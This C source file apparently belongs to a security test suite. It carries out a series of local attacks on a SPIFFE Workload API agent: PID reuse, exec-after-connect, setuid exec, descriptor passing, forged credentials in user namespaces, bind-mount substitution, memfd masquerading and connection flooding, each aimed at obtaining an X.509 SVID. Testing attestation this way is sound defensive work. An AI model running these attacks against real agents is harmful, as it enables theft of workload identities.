/* machine.c: attacks A1-A13 of spiffe.md 22 from inside one machine, each a word:
 *     machine WORD SOCKET [ARG...]
 * They speak HTTP/2 by hand, so that each byte is written by the process that the attack needs. Last line on
 * stdout: "key" (something was released to the attacker), "denied", "closed", and what else was seen. */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
enum { DATA = 0, HEADERS = 1, RST = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, END_STREAM = 1, END_HEADERS = 4 };

static const char *rpc = "/SpiffeWorkloadAPI/FetchX509SVID";
static pid_t claimed; /* stamp our bytes with this pid, 0: the kernel's own */

static void die(const char *what)
{
	printf("error %s: %s\n", what, strerror(errno));
	exit(9);
}

static int64_t now_us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000000 + t.tv_nsec / 1000;
}

static int dial(const char *path)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(at.sun_path, sizeof(at.sun_path), "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&at, sizeof(at)) != 0) {
		die("connect");
	}
	return fd;
}

/* --- bytes -------------------------------------------------------------------------------------------- */

static bool put(int fd, const void *p, size_t n)
{
	char control[CMSG_SPACE(sizeof(struct ucred))] = { 0 };
	struct iovec v = { (void *)p, n };
	struct msghdr m = { .msg_iov = &v, .msg_iovlen = 1 };

	if (claimed) {
		m.msg_control = control;
		m.msg_controllen = sizeof(control);
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_CREDENTIALS;
		c->cmsg_len = CMSG_LEN(sizeof(struct ucred));
		struct ucred u = { claimed, getuid(), getgid() };
		memcpy(CMSG_DATA(c), &u, sizeof(u));
	}
	return sendmsg(fd, &m, MSG_NOSIGNAL) == (ssize_t)n;
}

static size_t frame(uint8_t *out, uint8_t type, uint8_t flags, uint8_t stream, const void *body, size_t n)
{
	const uint8_t head[9] = { 0, (uint8_t)(n >> 8), (uint8_t)n, type, flags, 0, 0, 0, stream };

	memcpy(out, head, 9);
	memcpy(out + 9, body, n);
	return 9 + n;
}

static size_t text(uint8_t *out, const char *s)
{
	out[0] = (uint8_t)strlen(s);
	memcpy(out + 1, s, strlen(s));
	return 1 + strlen(s);
}

static size_t pair(uint8_t *out, const char *name, const char *value)
{
	size_t n = 1;

	out[0] = 0; /* literal without indexing, new name */
	n += text(out + n, name);
	return n + text(out + n, value);
}

/* Everything a client says first, so that nothing but the PING's answer is left to say. */
static size_t request(uint8_t *out)
{
	uint8_t h[512] = { 0x83, 0x86 }; /* :method POST, :scheme http */
	size_t n = 2, at = sizeof(PREFACE) - 1;

	memcpy(out, PREFACE, at);
	at += frame(out + at, SETTINGS, 0, 0, "", 0);
	n += pair(h + n, ":path", rpc);
	n += pair(h + n, ":authority", "localhost");
	n += pair(h + n, "content-type", "application/grpc");
	n += pair(h + n, "te", "trailers");
	n += pair(h + n, "workload.spiffe.io", "true");
	at += frame(out + at, HEADERS, END_HEADERS, 1, h, n);
	return at + frame(out + at, DATA, END_STREAM, 1, "\0\0\0\0\0", 5);
}

static bool ask(int fd)
{
	uint8_t out[1024];

	return put(fd, out, request(out));
}

static bool take(int fd, void *p, size_t n, int64_t until_us)
{
	for (size_t at = 0; at < n;) {
		struct pollfd w = { fd, POLLIN, 0 };
		int64_t left = until_us - now_us();
		if (left <= 0 || poll(&w, 1, (int)(left / 1000) + 1) <= 0) {
			return false;
		}
		ssize_t got = read(fd, (char *)p + at, n - at);
		if (got <= 0) {
			return false;
		}
		at += (size_t)got;
	}
	return true;
}

/* Reads until something is decided; answers the server's PING if told so. */
static const char *listen_for(int fd, bool answers, int ms)
{
	static uint8_t body[1 << 20];
	int64_t until = now_us() + ms * 1000ll;
	uint8_t h[9], out[64];

	while (take(fd, h, 9, until)) {
		size_t n = (size_t)h[0] << 16 | (size_t)h[1] << 8 | h[2];
		if (n > sizeof(body) || !take(fd, body, n, until)) {
			return "closed";
		}
		if (h[3] == PING && !(h[4] & 1) && answers && !put(fd, out, frame(out, PING, 1, 0, body, n))) {
			return "closed";
		}
		if (h[3] == SETTINGS && !(h[4] & 1) && answers && !put(fd, out, frame(out, SETTINGS, 1, 0, "", 0))) {
			return "closed";
		}
		if (h[3] == DATA && n) {
			return "key";
		}
		if ((h[3] == HEADERS && (h[4] & END_STREAM)) || h[3] == RST || h[3] == GOAWAY) {
			return "denied";
		}
	}
	return now_us() >= until ? "silence" : "closed";
}

static int say(const char *verdict)
{
	printf("%s\n", verdict);
	fflush(stdout);
	return 0;
}

static void sleep_ms(int ms)
{
	usleep((useconds_t)ms * 1000);
}

/* --- the attacks ----------------------------------------------------------------------------------------- */

/* Nothing wrong here: what everybody may do. */
static int honest(char **a)
{
	int fd = dial(a[0]);

	ask(fd);
	return say(listen_for(fd, true, 5000));
}

/* Stays, after the key, so that others can play with its life: prints, then waits for the end of stdin. */
static int stays(char **a)
{
	int fd = dial(a[0]);
	char c;

	ask(fd);
	say(listen_for(fd, true, 5000));
	return read(0, &c, 1) < 0;
}

/* A1: the parent becomes an allowed program, the child speaks on. */
static int a1(char **a)
{
	int fd = dial(a[0]), go[2];
	char c;

	if (pipe2(go, O_CLOEXEC) != 0) { /* closes when the parent has become the other program */
		die("pipe");
	}
	if (fork() != 0) {
		execl(a[1], a[1], "sleeps", a[0], NULL);
		die("exec");
	}
	close(go[1]);
	while (read(go[0], &c, 1) > 0) {
	}
	ask(fd);
	return say(listen_for(fd, true, 4000));
}

/* A2: the request is in the socket before the exec; a child holds the descriptor and reads whatever comes. */
static int a2(char **a)
{
	int fd = dial(a[0]);

	ask(fd);
	if (fork() != 0) {
		execl(a[1], a[1], "sleeps", a[0], NULL);
		die("exec");
	}
	return say(listen_for(fd, a[2] && strcmp(a[2], "answers") == 0, 4000));
}

static int sleeps(char **a)
{
	(void)a;
	sleep_ms(4500);
	return 0;
}

/* A3: attested, then exits; its child keeps the descriptor and looks at the clock. */
static int a3(char **a)
{
	int fd = dial(a[0]), went[2];
	int64_t at = 0;
	char c;

	ask(fd);
	const char *first = listen_for(fd, true, 5000);
	printf("first %s\n", first);
	fflush(stdout);
	if (pipe(went) != 0) {
		die("pipe");
	}
	pid_t child = fork();
	if (child != 0) {
		at = now_us();
		if (write(went[1], &at, sizeof(at)) != sizeof(at)) {
			die("write");
		}
		_exit(0);
	}
	if (read(went[0], &at, sizeof(at)) != sizeof(at)) {
		die("read");
	}
	struct pollfd w = { fd, POLLIN | POLLRDHUP, 0 };
	int n = 1;
	while ((n = poll(&w, 1, 3000)) == 1 && read(fd, &c, 1) > 0) {
	}
	printf("us %lld\n", (long long)(now_us() - at));
	return say(n == 1 ? "closed" : "silence");
}

/* A4: connects, waits for a byte on stdin, leaves a child with the descriptor and frees its number. */
static int a4(char **a)
{
	int fd = dial(a[0]);
	char c;

	printf("pid %d\n", (int)getpid());
	fflush(stdout);
	pid_t child = fork();
	if (child != 0) {
		_exit(0);
	}
	if (read(0, &c, 1) != 1) { /* go: the number belongs to another by now */
		return 1;
	}
	ask(fd);
	return say(listen_for(fd, true, 4000));
}

/* Starts PROGRAM as UID under the very number PID (needs CAP_CHECKPOINT_RESTORE). */
static int as_pid(char **a)
{
	pid_t want = (pid_t)atol(a[1]);
	struct {
		uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size;
	} args = { .exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&want, .set_tid_size = 1 };
	long pid = syscall(SYS_clone3, &args, sizeof(args));

	if (pid < 0) {
		die("clone3");
	}
	if (pid == 0) {
		uid_t uid = (uid_t)atol(a[3]);
		if (setgroups(0, NULL) == 0 && setresgid(uid, uid, uid) == 0 && setresuid(uid, uid, uid) == 0) {
			execl(a[2], a[2], "sleeps", a[0], NULL);
		}
		_exit(127);
	}
	sleep_ms(100); /* it is the other program by now */
	printf("runs %ld\n", pid);
	fflush(stdout);
	waitpid((pid_t)pid, NULL, 0);
	return 0;
}

/* A5: exec of a setuid program that goes on speaking. */
static int a5(char **a)
{
	char number[16];
	int fd = dial(a[0]);
	struct pollfd first = { .fd = fd, .events = POLLIN };

	(void)poll(&first, 1, 4000); /* the server speaks first: it has accepted who we still are */
	snprintf(number, sizeof(number), "%d", fd);
	execl(a[1], a[1], "speaks", a[0], number, NULL);
	die("exec");
	return 1;
}

static int speaks(char **a)
{
	int fd = (int)atol(a[1]);

	printf("uids %d %d\n", (int)getuid(), (int)geteuid());
	ask(fd);
	return say(listen_for(fd, true, 4000));
}

/* A6: the connection travels to another process by SCM_RIGHTS. */
static int a6(char **a)
{
	int way[2], fd, status;
	char control[CMSG_SPACE(sizeof(int))] = { 0 }, c = 'x';
	struct iovec v = { &c, 1 };
	struct msghdr m = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, way) != 0) {
		die("socketpair");
	}
	pid_t child = fork();
	if (child == 0) {
		if (recvmsg(way[1], &m, 0) != 1) {
			die("recvmsg");
		}
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(fd));
		ask(fd);
		exit(say(listen_for(fd, true, 4000)));
	}
	fd = dial(a[0]);
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
	h->cmsg_level = SOL_SOCKET;
	h->cmsg_type = SCM_RIGHTS;
	h->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(h), &fd, sizeof(fd));
	if (sendmsg(way[0], &m, 0) != 1) {
		die("sendmsg");
	}
	waitpid(child, &status, 0);
	return 0;
}

/* --- namespaces -------------------------------------------------------------------------------------------- */

static void write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0 || write(fd, s, strlen(s)) != (ssize_t)strlen(s)) {
		die(path);
	}
	close(fd);
}

static void unshare_user(int more)
{
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (unshare(CLONE_NEWUSER | more) != 0) {
		die("unshare");
	}
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "%u %u 1", (unsigned)uid, (unsigned)uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "%u %u 1", (unsigned)gid, (unsigned)gid);
	write_file("/proc/self/gid_map", map);
}

/* A9: an ordinary client, in a user (and PID) namespace of its own. */
static int a9(char **a)
{
	bool pid_too = a[1] && strcmp(a[1], "pid") == 0;

	if (a[1] && strcmp(a[1], "pidonly") == 0) { /* root */
		if (unshare(CLONE_NEWPID) != 0) {
			die("unshare");
		}
		pid_too = true;
	} else {
		unshare_user(pid_too ? CLONE_NEWPID : 0);
	}
	if (pid_too) {
		pid_t child = fork();
		if (child != 0) {
			waitpid(child, NULL, 0);
			return 0;
		}
	}
	return honest(a);
}

/* A11: in a nested pair of namespaces one process connects and becomes the allowed program, its neighbour
 * speaks with stamps that name it. */
static int a11(char **a)
{
	unshare_user(CLONE_NEWPID);
	pid_t init = fork();
	if (init != 0) {
		waitpid(init, NULL, 0);
		return 0;
	}
	int fd[2];
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, fd) != 0) {
		die("socketpair");
	}
	int connection = dial(a[0]); /* dialled by init ... */
	pid_t neighbour = fork();
	if (neighbour == 0) {
		sleep_ms(200);
		claimed = 1; /* ... whose number, 1 here, the neighbour may name: it has CAP_SYS_ADMIN in here */
		if (!ask(connection)) {
			printf("stamp refused by the kernel\n");
		}
		exit(say(listen_for(connection, true, 4000)));
	}
	execl(a[1], a[1], "sleeps", a[0], NULL);
	die("exec");
	return 1;
}

/* A12: descriptors come along with the request. */
static int a12(char **a)
{
	char control[CMSG_SPACE(16 * sizeof(int))] = { 0 };
	uint8_t out[1024];
	struct iovec v = { out, request(out) };
	struct msghdr m = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
	int fd = dial(a[0]), fds[16];

	for (size_t i = 0; i < 16; i++) {
		fds[i] = 0;
	}
	h->cmsg_level = SOL_SOCKET;
	h->cmsg_type = SCM_RIGHTS;
	h->cmsg_len = CMSG_LEN(sizeof(fds));
	memcpy(CMSG_DATA(h), fds, sizeof(fds));
	if (sendmsg(fd, &m, MSG_NOSIGNAL) < 0) {
		die("sendmsg");
	}
	return say(listen_for(fd, true, 4000));
}

/* A15: an allowed path, but in another mount namespace: another file is mounted over it there, and started from
 * here through /proc/PID/root, so that this process keeps the node's own namespaces. */
static int a15(char **a)
{
	int ready[2];
	char c, path[4096];

	if (pipe(ready) != 0) {
		die("pipe");
	}
	pid_t child = fork();
	if (child == 0) {
		unshare_user(CLONE_NEWNS);
		if (mount(a[2], a[1], NULL, MS_BIND, NULL) != 0 || write(ready[1], "x", 1) != 1) {
			die("mount");
		}
		pause();
	}
	close(ready[1]);
	if (read(ready[0], &c, 1) != 1) {
		return 1;
	}
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	snprintf(path, sizeof(path), "/proc/%d/root%s", (int)child, a[1]);
	pid_t self = fork();
	if (self == 0) {
		execl(path, path, "honest", a[0], NULL);
		die("exec");
	}
	waitpid(self, NULL, 0);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}

/* A program that exists in memory only, under the name of an allowed one. */
static int memfd(char **a)
{
	char self[4096], buf[65536];
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to = memfd_create(a[1], 0);
	ssize_t n;

	if (from < 0 || to < 0) {
		die("memfd");
	}
	while ((n = read(from, buf, sizeof(buf))) > 0) {
		if (write(to, buf, (size_t)n) != n) {
			die("write");
		}
	}
	snprintf(self, sizeof(self), "/proc/self/fd/%d", to);
	execl(self, a[1], "honest", a[0], NULL);
	die("exec");
	return 1;
}

/* A10: connects as fast as it can for some seconds, and says how often. */
static int flood(char **a)
{
	int64_t until = now_us() + atol(a[1]) * 1000000ll;
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	unsigned long n = 0;

	snprintf(at.sun_path, sizeof(at.sun_path), "%s", a[0]);
	while (now_us() < until) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		n += connect(fd, (struct sockaddr *)&at, sizeof(at)) == 0;
		close(fd);
	}
	printf("%lu\n", n);
	return 0;
}

static const struct {
	const char *word;
	int (*run)(char **a);
} words[] = { { "honest", honest }, { "stays", stays }, { "sleeps", sleeps }, { "a1", a1 }, { "a2", a2 }, { "a3", a3 },
	{ "a4", a4 }, { "as_pid", as_pid }, { "a5", a5 }, { "speaks", speaks }, { "a6", a6 }, { "a9", a9 },
	{ "a11", a11 }, { "a12", a12 }, { "a15", a15 }, { "memfd", memfd }, { "flood", flood } };

int main(int argc, char **argv)
{
	signal(SIGPIPE, SIG_IGN);
	for (size_t i = 0; argc >= 3 && i < sizeof(words) / sizeof(words[0]); i++) {
		if (strcmp(words[i].word, argv[1]) == 0) {
			return words[i].run(argv + 2);
		}
	}
	return 2;
}
